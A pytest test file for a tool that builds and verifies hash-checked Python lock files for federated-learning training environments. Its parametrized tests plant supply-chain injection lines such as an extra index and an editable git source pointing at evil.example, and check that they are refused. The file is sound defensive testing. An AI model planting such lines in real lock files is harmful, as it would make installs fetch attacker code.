"""Training environments: definitions, the committed locks, `nina env lock [--check]`, and
installing a lock offline from a wheel cache the test builds (with pip's hash checking).

Resolving and downloading need PyPI: those tests are skipped, saying so, when it is unreachable."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from nina import environments, facts
from nina.cli import main
from nina.environments import DEFAULT, Environment, LockError
from nina.host import env_sync


def pypi_reachable() -> bool:
    try:
        with socket.create_connection(("pypi.org", 443), timeout=5):
            return True
    except OSError:
        return False


needs_pypi = pytest.mark.skipif(not pypi_reachable(), reason="PyPI (pypi.org:443) is unreachable: resolving and downloading need it")


def test_default_environment_is_flwr_and_the_validation_apps_packages() -> None:
    assert DEFAULT.requirements() == tuple(sorted([f"flwr=={facts.FLWR_VERSION}", *facts.ENV_DEFAULT_PACKAGES]))
    assert DEFAULT.pins()["flwr"] == facts.FLWR_VERSION


@pytest.mark.parametrize(
    "pin",
    [
        "numpy",
        "numpy>=2",
        "numpy==2.*",
        "numpy == 2.4.6",
        "numpy==2.4.6; python_version<'4'",
        "torch[cuda]==2.5.1",
        "x==1 --index-url=http://e",
        "",
    ],
)
def test_a_package_must_be_an_exact_pin(pin: str) -> None:
    with pytest.raises(ValueError, match="exact pin"):
        environments.parse_pin(pin)


def test_definition_refusals() -> None:
    with pytest.raises(ValueError, match="flwr"):
        Environment("x", packages=("flwr==1.30.0",))
    with pytest.raises(ValueError, match="twice"):
        Environment("x", packages=("NumPy==2.4.6", "numpy==2.4.5"))
    with pytest.raises(ValueError, match="variant"):
        Environment("x", variant="rocm")
    with pytest.raises(ValueError, match="exclude_newer"):
        Environment("x", exclude_newer="yesterday")


def test_the_committed_default_lock_matches_its_definition() -> None:
    text = environments.read_lock(DEFAULT)
    pins = environments.parse(text)
    assert pins["flwr"] == facts.FLWR_VERSION and pins["numpy"] == "2.4.6"
    assert text.startswith(environments.header(DEFAULT))
    # Every requirement carries hashes: pip --require-hashes installs nothing unchecked.
    assert text.count("--hash=sha256:") >= len(pins)


def test_a_stale_or_edited_lock_is_refused_with_the_command_that_fixes_it(tmp_path: Path) -> None:
    text = environments.read_lock(DEFAULT)
    changed = Environment(facts.ENV_DEFAULT, packages=("numpy==2.4.5",))
    (tmp_path / DEFAULT.lock_file).write_text(text)
    with pytest.raises(LockError, match=r"does not match the environment's definition.*nina env lock default"):
        environments.read_lock(changed, tmp_path)
    # A hand-edited version below a correct header.
    (tmp_path / DEFAULT.lock_file).write_text(text.replace("\nnumpy==2.4.6 \\", "\nnumpy==2.4.5 \\"))
    with pytest.raises(LockError, match=r"has numpy 2\.4\.5, the definition pins 2\.4\.6"):
        environments.read_lock(DEFAULT, tmp_path)
    # A requirement whose hashes were removed.
    stripped = "\n".join(line for line in text.splitlines() if "hash=sha256:" not in line) + "\n"
    (tmp_path / DEFAULT.lock_file).write_text(stripped)
    with pytest.raises(LockError, match=r"continues a requirement and is not `    --hash=sha256"):
        environments.read_lock(DEFAULT, tmp_path)
    (tmp_path / DEFAULT.lock_file).write_text(stripped.replace(" \\\n", "\n"))  # the joins removed too
    with pytest.raises(LockError, match="without sha256 hashes"):
        environments.read_lock(DEFAULT, tmp_path)
    with pytest.raises(LockError, match="has no lock"):
        environments.read_lock(Environment("absent"), tmp_path)


@pytest.mark.parametrize(
    "planted",
    [
        "--extra-index-url https://evil.example/simple",
        "-r ../../etc/other.txt",
        "    --no-binary :all:",
        "-e git+https://evil.example/x.git",
    ],
)
def test_a_committed_lock_with_a_pip_option_planted_in_it_is_refused_offline(tmp_path: Path, planted: str) -> None:
    # A reviewer sees a lock of a thousand hash lines; one option line among them would make root's
    # pip fetch from elsewhere or build from source. `nina config check` (no network) refuses it.
    text = environments.read_lock(DEFAULT)
    (tmp_path / DEFAULT.lock_file).write_text(text.replace("\nnumpy==2.4.6 \\", f"\n{planted}\nnumpy==2.4.6 \\"))
    with pytest.raises(LockError, match=r"lock line .* is not `name==version`.*nina env lock default"):
        environments.read_lock(DEFAULT, tmp_path)


@needs_pypi
def test_resolving_again_gives_the_committed_lock_byte_for_byte(capsys: pytest.CaptureFixture[str]) -> None:
    assert environments.resolve(DEFAULT) == environments.lock_path(DEFAULT).read_text()
    assert main(["env", "lock", "--check"]) == 0
    assert "up to date" in capsys.readouterr().out


@needs_pypi
def test_env_lock_check_refuses_a_stale_lock_and_lock_writes_it(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    stack = tmp_path / "Pulumi.s.yaml"
    stack.write_text("config:\n  nina:training_environments:\n    tabular:\n      packages: ['numpy==2.4.6', 'threadpoolctl==3.6.0']\n")
    locks = tmp_path / "locks"
    args = ["env", "lock", "--stack", "s", "--dir", str(tmp_path), "--lock-dir", str(locks)]
    assert main([*args, "--check"]) == 1
    assert "tabular.lock: stale or missing" in capsys.readouterr().err
    assert main([*args, "tabular"]) == 0
    tab = Environment("tabular", packages=("numpy==2.4.6", "threadpoolctl==3.6.0"))
    assert environments.parse(environments.read_lock(tab, locks))["threadpoolctl"] == "3.6.0"
    assert main([*args, "--check", "tabular"]) == 0
    # An unresolvable pin: uv's reason, no traceback, exit 1.
    stack.write_text("config:\n  nina:training_environments:\n    bad:\n      packages: ['numpy==0.0.0']\n")
    assert main([*args, "bad"]) == 1
    assert "uv could not resolve" in capsys.readouterr().err


def test_env_lock_refuses_a_bad_definition_before_resolving(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "Pulumi.s.yaml").write_text("config:\n  nina:training_environments:\n    tabular:\n      packages: ['numpy>=2']\n")
    assert main(["env", "lock", "--stack", "s", "--dir", str(tmp_path), "--lock-dir", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert "nina:training_environments.tabular" in err and "exact pin" in err and "Traceback" not in err
    assert main(["env", "lock", "nosuch", "--lock-dir", str(tmp_path)]) == 2


def test_a_gpu_organisations_kit_builds_the_cuda_image_from_the_cuda_lock() -> None:
    """Stack uat with README's `pytorch-cuda` environment and an on-premise GPU organisation, under
    the mock harness: its kit's CUDA Dockerfile starts from CUDA's image and installs the lock,
    whole and hash-checked, which build.sh copies beside it; the same lock is the systemd venv's."""
    import copy

    import harness
    from test_config import readme_cuda_example

    from nina import kit

    config = copy.deepcopy(harness.stack_config("uat"))
    config.update({f"nina:{k}": v for k, v in readme_cuda_example().items()})
    config["nina:training_environment"] = "pytorch-cuda"
    config["nina:organisations"][1]["gpu"] = True
    run = harness.run_program(config, "uat")
    assert run.error is None, run.error
    outs = json.loads(json.dumps(run.outputs))
    env = Environment("pytorch-cuda", "cuda", ("torch==2.15.0",))
    lock = environments.read_lock(env)
    assert outs["tenancies"]["main"]["environment"] == {"name": "pytorch-cuda", "variant": "cuda", "lock": lock}
    files = _kit(outs, "gold-coast")
    docker = files["containers/Dockerfile.cuda"].decode()
    # torch 2.15.0's wheels are CUDA 13's: the image is CUDA 13's base (what driver branch 580 runs), not a second CUDA.
    assert environments.cuda_major(environments.parse(lock)) == 13
    assert f"ARG BASE_IMAGE={kit.CUDA_WHEELS_BASE_IMAGES[13]}\nFROM ${{BASE_IMAGE}}" in docker
    assert kit.CUDA_WHEELS_BASE_IMAGES[13] == "nvidia/cuda:13.0.2-base-ubuntu24.04"
    assert f"from `{kit.CUDA_WHEELS_BASE_IMAGES[13]}`" in files["README.md"].decode()
    assert f"ARG BASE_IMAGE={kit.BASE_IMAGES['cpu']}\n" in files["containers/Dockerfile.cpu"].decode()
    assert f"COPY flower_env.lock {facts.FLOWER_ENV_LOCK}" in docker
    assert f"--require-hashes --no-deps -r {facts.FLOWER_ENV_LOCK}" in docker
    assert files["containers/flower_env.lock"].decode() == lock == files[facts.FLOWER_ENV_LOCK.lstrip("/")].decode()
    assert {"containers/run-docker-gpu.sh", "containers/run-podman-gpu.sh"} <= set(files)
    # The kit's bytes follow from the outputs alone: the same outputs, the same archive.
    assert kit.build_kit(outs, "gold-coast") == kit.build_kit(copy.deepcopy(outs), "gold-coast")


def test_the_cuda_major_of_a_lock_is_its_runtime_wheels() -> None:
    assert environments.cuda_major({"nvidia-cuda-runtime-cu12": "12.8.90", "torch": "2.7.1"}) == 12
    assert environments.cuda_major({"nvidia-cuda-runtime": "13.2.86", "torch": "2.15.0"}) == 13
    assert environments.cuda_major({"NVIDIA_CUDA_RUNTIME_CU12": "12.4.127"}) == 12
    assert environments.cuda_major(environments.parse(environments.read_lock(DEFAULT))) is None
    assert environments.cuda_major({"nvidia-cuda-runtime-cu12-extra": "12.1"}) is None


@pytest.mark.slow
@needs_pypi
@pytest.mark.timeout(300)
def test_resolving_the_readme_cuda_example_again_gives_its_committed_lock(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """README's `pytorch-cuda` (torch and its CUDA runtime wheels, about 3 GB installed) resolves
    to the committed lock's bytes. uv reads PyPI's index pages and the wheels' metadata files, not
    the wheels: measured at 14 MB of uv cache, 17 s cold and 4-26 s warm (README, Training environments)."""
    import time

    import yaml
    from test_config import readme_cuda_example

    config = {f"nina:{k}": v for k, v in readme_cuda_example().items()}
    (tmp_path / "Pulumi.cuda.yaml").write_text(yaml.safe_dump({"config": config}))
    started = time.monotonic()
    assert main(["env", "lock", "--stack", "cuda", "--dir", str(tmp_path), "--check", "pytorch-cuda"]) == 0
    print(f"nina env lock --check pytorch-cuda: {time.monotonic() - started:.1f} s")
    assert "pytorch-cuda.lock: up to date" in capsys.readouterr().out


@pytest.mark.slow
@needs_pypi
@pytest.mark.timeout(600)
def test_the_committed_lock_installs_offline_from_a_wheel_cache(tmp_path: Path) -> None:
    """The hosts' lock (CPython 3.12, manylinux x86_64): pip downloads its wheels into a cache,
    then installs the lock from that cache alone (--no-index), checking every hash, into a
    target directory for that Python and platform (this machine runs Python 3.11)."""
    lock = environments.lock_path(DEFAULT)
    cache, target = tmp_path / "wheels", tmp_path / "site"
    # pip takes each platform tag literally: name the manylinux tags a 2_28 host accepts.
    tags = ["manylinux_2_28_x86_64", "manylinux_2_17_x86_64", "manylinux2014_x86_64", "manylinux_2_5_x86_64", "manylinux1_x86_64"]
    platform = ["--python-version", facts.ENV_PYTHON_VERSION, *(f"--platform={t}" for t in tags), "--only-binary=:all:"]
    pip = [sys.executable, "-m", "pip", "--disable-pip-version-check", "--quiet"]
    # This machine's pip configuration (extra indexes, constraints) is not the hosts': none of it.
    env = {k: v for k, v in os.environ.items() if not k.startswith("PIP_")} | {"PIP_CONFIG_FILE": os.devnull}
    download = [*pip, "download", "--require-hashes", "--no-deps", "-r", str(lock), "-d", str(cache), *platform]
    subprocess.run(download, check=True, env=env)
    wheels = sorted(p.name for p in cache.iterdir())
    assert len(wheels) == len(environments.parse(lock.read_text())), wheels
    install = [*pip, "install", "--no-index", "--find-links", str(cache), "--require-hashes", "--no-deps", "-r", str(lock)]
    subprocess.run([*install, "--target", str(target), *platform], check=True, env=env)
    installed = {p.name.split("-")[0].lower().replace("_", "-") for p in target.glob("*.dist-info")}
    assert installed == set(environments.parse(lock.read_text()))
    # A wheel that is not the locked one (same name, other bytes) is refused by its hash.
    numpy = next(p for p in cache.iterdir() if p.name.startswith("numpy-"))
    numpy.write_bytes(numpy.read_bytes() + b"\0")
    shutil.rmtree(target)
    done = subprocess.run([*install, "--target", str(target), *platform], capture_output=True, text=True, env=env)
    assert done.returncode != 0 and "HASHES" in done.stderr.upper()


def uat_environment() -> Environment:
    """Stack uat's training environment, as Pulumi.uat.yaml defines it (its lock is committed)."""
    import harness

    from nina.config import load_config

    cfg = load_config({k.removeprefix("nina:"): v for k, v in harness.stack_config("uat").items()})
    return cfg.training_environment_of(cfg.all_tenancies[0])


@pytest.fixture
def tabular_locks() -> Environment:
    """A second environment with a committed lock: stack uat's `tabular` (numpy + scikit-learn)."""
    tab = uat_environment()
    assert tab.name == "tabular" and tab != DEFAULT
    return tab


def test_the_committed_uat_lock_matches_its_definition() -> None:
    """Pulumi.uat.yaml's `tabular`: numpy at the built-in environment's version and scikit-learn,
    exactly the version this project's test venv holds (the rehearsal's nodes run it)."""
    import importlib.metadata

    tab = uat_environment()
    pins = environments.parse(environments.read_lock(tab))
    assert tab.variant == "cpu" and pins["numpy"] == DEFAULT.pins()["numpy"]
    assert pins["scikit-learn"] == tab.pins()["scikit-learn"] == importlib.metadata.version("scikit-learn")
    # Its dependencies are locked too (a host installs the lock with --no-deps).
    assert {"scipy", "joblib", "threadpoolctl"} <= set(pins)


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_uat_moving_to_its_environment_replaces_no_vm_and_changes_only_the_lock_in_its_kits() -> None:
    """Pulumi.uat.yaml without its training environment (the built-in default) and as committed
    (`tabular`), under the mock harness: no VM replaced, every user-data byte-identical, only the
    SuperLink's delivery changes (uat's SuperNodes are all on premises), and each kit changes only
    in its lock, the payloads that install it and the checksums."""
    import copy

    import harness

    from nina import kit

    after = harness.stack_config("uat")
    before = copy.deepcopy(after)
    del before["nina:training_environments"], before["nina:training_environment"]
    before_run, after_run = harness.before_and_after(before, after, "uat")
    harness.instances_unchanged(before_run, after_run)
    assert before_run.user_data() == after_run.user_data()
    gone, added, changed = harness.changed_names(before_run, after_run)
    assert (gone, added) == (set(), set())
    assert changed == {"superlink-main-superlink-install"}, changed
    lock = environments.read_lock(uat_environment())
    outs = [json.loads(json.dumps(r.outputs)) for r in (before_run, after_run)]
    assert outs[0]["tenancies"]["main"]["environment"]["name"] == facts.ENV_DEFAULT
    assert outs[1]["tenancies"]["main"]["environment"] == {"name": "tabular", "variant": "cpu", "lock": lock}
    locks = {facts.FLOWER_ENV_LOCK.lstrip("/"), "containers/flower_env.lock"}
    payloads = {"payloads/supernode-systemd.json", "payloads/containers.json"}
    slugs = list(outs[1]["tenancies"]["main"]["organisations"])
    assert slugs == ["metro-north", "gold-coast"]
    for slug in slugs:
        old, new = _kit(outs[0], slug), _kit(outs[1], slug)
        assert set(old) == set(new)
        differ = {p for p in old if old[p] != new[p]}
        assert locks <= differ and all(new[p].decode() == lock for p in locks), slug
        assert differ - locks <= payloads | {"SHA256SUMS", "SHA256SUMS.sig", "README.md"}, differ
        # Deterministic: the same outputs give the same archive, byte for byte.
        assert kit.build_kit(outs[1], slug) == kit.build_kit(copy.deepcopy(outs[1]), slug)


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_changing_a_tenancys_environment_replaces_no_vm_and_redelivers_only_its_flower_hosts(tabular_locks: Environment) -> None:
    import copy

    import harness
    from conftest import render_raw_configs

    raw = render_raw_configs()["multi-tenancy"]
    after = copy.deepcopy(raw)
    after["training_environments"] = {"tabular": {"packages": list(tabular_locks.packages)}}
    after["tenancies"][0]["training_environment"] = "tabular"
    before_run, after_run = harness.before_and_after(
        {f"nina:{k}": v for k, v in raw.items()}, {f"nina:{k}": v for k, v in after.items()}, "multi"
    )
    harness.instances_unchanged(before_run, after_run)
    gone, added, changed = harness.changed_names(before_run, after_run)
    assert (gone, added) == (set(), set())
    # Alpha's SuperLink and its cloud SuperNode get the new lock (their deliveries' commands);
    # beta's hosts, every other delivery and every VM's user-data are untouched.
    assert changed == {"superlink-alpha-superlink-install", "supernode-a-one-supernode-install"}, changed
    assert before_run.user_data() == after_run.user_data()
    lock = environments.read_lock(tabular_locks)
    stdins = [harness.payload_of(r.inputs["stdin"]) for r in after_run.registrations if r.name in changed and "stdin" in r.inputs]
    assert stdins and all(json.loads(s)["files"] and any(f["content"] == lock for f in json.loads(s)["files"]) for s in stdins)


def _kit(outputs: dict, slug: str) -> dict[str, bytes]:
    from nina import kit

    return {f.path: f.content for f in kit.kit_files(outputs, slug)}


def test_superlink_supernode_kit_venv_and_both_images_install_one_lock(kit_built) -> None:
    """The SuperLink's delivery, a cloud SuperNode's, a hospital's kit (its systemd venv via
    install.sh and nina-env-sync, and both Dockerfiles via build.sh) and the tenancy's JupyterHub
    notebook images all install the tenancy's committed lock, whole, with pip --require-hashes --no-deps."""
    from nina import render
    from nina.config import load_config
    from nina.plan import build_plan
    from nina.rehearse import REPO_ROOT

    lock = environments.read_lock(DEFAULT)
    import harness

    plan = build_plan(load_config({k.removeprefix("nina:"): v for k, v in harness.stack_config("test").items()}))
    tenancy = plan.tenancies[0]
    assert tenancy.environment_lock == lock
    superlink = json.loads(
        render.superlink_delivery(tenancy, "-----BEGIN CERTIFICATE-----\n", "-----BEGIN CERTIFICATE-----\n", "PRIVATE KEY\n")
    )
    member = tenancy.members[0]
    node = json.loads(
        render.supernode_delivery(
            member, tenancy.fleet_address, "BEGIN CERTIFICATE", "BEGIN OPENSSH PRIVATE KEY", "ecdsa-sha2-nistp384 AAAA", lock
        )
    )
    for payload in (superlink, node):
        files = {f["path"]: f["content"] for f in payload["files"]}
        assert files[facts.FLOWER_ENV_LOCK] == lock
        assert f"--lock {facts.FLOWER_ENV_LOCK} --venv {facts.FLOWER_VENV}" in files[f"{facts.SYSTEMD_SYSTEM_DIR}/{facts.ENV_SYNC_SERVICE}"]
        assert payload["run"] == [facts.ENV_SYNC_SERVICE]
    assert kit_built.outputs["tenancies"]["main"]["environment"]["lock"] == lock
    files = _kit(kit_built.outputs, "hospital-a")
    lock_name = facts.FLOWER_ENV_LOCK.rsplit("/", 1)[1]
    assert files[facts.FLOWER_ENV_LOCK.lstrip("/")].decode() == lock == files[f"containers/{lock_name}"].decode()
    assert files["installer/nina/host/env_sync.py"].decode() == (REPO_ROOT / "nina/host/env_sync.py").read_text()
    install = files["install.sh"].decode()
    assert f"ENV_LOCK={facts.FLOWER_ENV_LOCK}" in install and '--lock "$ENV_LOCK" --venv "$VENV"' in install
    for variant in facts.ENV_VARIANTS:
        docker = files[f"containers/Dockerfile.{variant}"].decode()
        assert f"COPY {lock_name} {facts.FLOWER_ENV_LOCK}" in docker
        assert f"--require-hashes --no-deps -r {facts.FLOWER_ENV_LOCK}" in docker and "EXTRA_PIP_PACKAGES" not in docker
    assert f'lock="$here/{lock_name}"' in files["containers/build.sh"].decode()
    assert f'cp "$lock" "$context/{lock_name}"' in files["containers/build.sh"].decode()
    # ... and the JupyterHub notebook image of the tenancy (each configured image, derived on the hub host).
    from nina import jupyterhub

    access = jupyterhub.TenancyAccess(tenancy.name, tenancy.control_address, tenancy.environment.name, tenancy.environment_lock)
    for image in facts.JUPYTERHUB_IMAGES:
        build = dict(jupyterhub.notebook_build(access, image).files)
        assert build[facts.JUPYTERHUB_BUILD_FILES["lock"]] == lock
        dockerfile = build[jupyterhub.dockerfile_name(jupyterhub._image_name(image))]
        assert f"--require-hashes --no-deps -r {facts.NOTEBOOK_ENV_LOCK}" in dockerfile and f"FROM {image}\n" in dockerfile


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_another_environment_changes_only_that_tenancys_kits_and_only_their_lock(kit_built, tabular_locks: Environment) -> None:
    import copy

    from nina import kit

    lock = environments.read_lock(tabular_locks)
    after = copy.deepcopy(kit_built.outputs)
    after["tenancies"]["main"]["environment"] = {"name": "tabular", "variant": "cpu", "lock": lock}
    # beta's kit: byte for byte the same archive.
    assert kit.build_kit(after, "beta-clinic") == kit.build_kit(kit_built.outputs, "beta-clinic")
    before_files, after_files = _kit(kit_built.outputs, "hospital-a"), _kit(after, "hospital-a")
    changed = {p for p in before_files if before_files[p] != after_files.get(p)}
    # The lock, the payload that installs it, the checksums and their signature; nothing else.
    locks = {facts.FLOWER_ENV_LOCK.lstrip("/"), "containers/flower_env.lock"}
    assert locks <= changed and all(after_files[p].decode() == lock for p in locks)
    payloads = {"payloads/supernode-systemd.json", "payloads/containers.json"}
    assert changed - locks <= payloads | {"SHA256SUMS", "SHA256SUMS.sig", "README.md"}, changed
    assert set(before_files) == set(after_files)


def test_the_outputs_carry_each_tenancys_environment_and_refuse_a_foreign_lock(kit_built) -> None:
    import copy

    from nina import outputs

    doc = outputs.read(kit_built.outputs)
    env = doc.tenancies["main"].environment
    assert (env.name, env.variant, env.lock) == (facts.ENV_DEFAULT, "cpu", environments.read_lock(DEFAULT))
    # What nina validate compares each node with (the definition's pins), and the whole lock.
    assert env.requirements == DEFAULT.pins() and env.pins == environments.parse(env.lock)
    for bad, says in [
        ("flwr==1.31.0\n", "not a training environment lock"),
        (env.lock.replace("\nflwr==", "\nflwr>="), "not `name==version`"),
    ]:
        broken = copy.deepcopy(kit_built.outputs)
        broken["tenancies"]["main"]["environment"]["lock"] = bad
        with pytest.raises(outputs.OutputsError, match=says):
            outputs.read(broken)


def test_install_sh_runs_the_kits_own_nina_env_sync(kit_built, tmp_path: Path) -> None:
    """install.sh's command line for nina-env-sync, with the kit's files alone on its path: against
    this project's venv (not the hosts' lock) it names the differences and exits 1."""
    import re

    files = _kit(kit_built.outputs, "hospital-a")
    for path, content in files.items():
        if path.startswith("installer/"):
            (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
            (tmp_path / path).write_bytes(content)
    lock = tmp_path / "flower_env.lock"
    lock.write_bytes(files[facts.FLOWER_ENV_LOCK.lstrip("/")])
    m = re.search(r"^ENV_SYNC='([^']*)'$", files["install.sh"].decode(), re.M)
    assert m is not None
    venv_dir = Path(sys.executable).parent.parent
    argv = [
        sys.executable,
        "-I",
        "-B",
        "-c",
        m.group(1),
        str(tmp_path / "installer"),
        "--check",
        "--lock",
        str(lock),
        "--venv",
        str(venv_dir),
    ]
    done = subprocess.run(argv, capture_output=True, text=True, cwd=tmp_path, timeout=120)
    assert done.returncode == 1, done.stdout + done.stderr
    ours = environments.parse(lock.read_text())["packaging"]
    import importlib.metadata

    mine = importlib.metadata.version("packaging")  # pyproject overrides flwr's cap here
    assert mine != ours and f"packaging {mine} is installed, the lock has {ours}" in done.stdout
    assert f"{venv_dir} is not in sync with {lock}" in done.stdout


# ---------------------------------------------------------------------------------------
# A node's whole installed set against the whole lock (`nina validate`'s judge)
# ---------------------------------------------------------------------------------------

LOCK = {"flwr": "1.31.0", "grpcio": "1.76.0", "numpy": "2.4.6", "protobuf": "5.29.5", "typing-extensions": "4.15.0"}
SAME = ["flwr==1.31.0", "grpcio==1.76.0", "numpy==2.4.6", "protobuf==5.29.5", "typing-extensions==4.15.0"]


def test_a_node_holding_exactly_the_lock_has_no_differences():
    assert environments.lock_differences(LOCK, SAME) == []
    # The tools the lock deliberately keeps beside it (pip) are no difference.
    assert environments.lock_differences(LOCK, [*SAME, "pip==25.3"]) == []
    assert "pip" in env_sync.KEPT


def test_names_compare_canonically_on_both_sides():
    assert environments.lock_differences({"typing_extensions": "4.15.0", "Foo.Bar": "1"}, ["typing-extensions==4.15.0", "foo-bar==1"]) == []
    assert environments.lock_differences({"foo-bar": "1"}, ["Foo_Bar==1"]) == []
    assert environments.lock_differences({"foo-bar": "1"}, ["Foo_Bar==2"]) == ["foo-bar 2 is installed, the lock has 1"]


def test_missing_extra_and_other_versions_are_named_with_both_versions():
    have = [d for d in SAME if not d.startswith("protobuf")] + ["requests==2.32.5"]
    have = [d.replace("grpcio==1.76.0", "grpcio==1.75.1") for d in have]
    assert environments.lock_differences(LOCK, have) == [
        "grpcio 1.75.1 is installed, the lock has 1.76.0",
        "protobuf is missing, the lock has 5.29.5",
        "requests 2.32.5 is installed, the lock has no requests",
    ]
    # pip is kept only when the lock does not name it: a lock that pins pip holds the node to it.
    assert environments.lock_differences({**LOCK, "pip": "25.3"}, [*SAME, "pip==24.0"]) == ["pip 24.0 is installed, the lock has 25.3"]


def test_the_listing_is_bounded():
    lock = {f"pkg{i:02d}": "1.0" for i in range(30)}
    found = environments.lock_differences(lock, [f"pkg{i:02d}==2.0" for i in range(30)])
    assert len(found) == facts.ENV_DIFFERENCES_LISTED + 1
    assert found[0] == "pkg00 2.0 is installed, the lock has 1.0"
    assert found[-1] == f"and {30 - facts.ENV_DIFFERENCES_LISTED} more"
    assert environments.lock_differences(lock, [f"pkg{i:02d}==2.0" for i in range(30)], limit=2)[-1] == "and 28 more"
    exactly = environments.lock_differences(lock, [f"pkg{i:02d}==1.0" for i in range(30 - facts.ENV_DIFFERENCES_LISTED)])
    assert len(exactly) == facts.ENV_DIFFERENCES_LISTED and not exactly[-1].startswith("and ")


def test_a_hostile_report_is_refused_not_trusted():
    with pytest.raises(ValueError, match="is not name==version"):
        environments.lock_differences(LOCK, [*SAME, "just-a-name"])
    with pytest.raises(ValueError, match="is not name==version"):
        environments.lock_differences(LOCK, ["==1.0"])
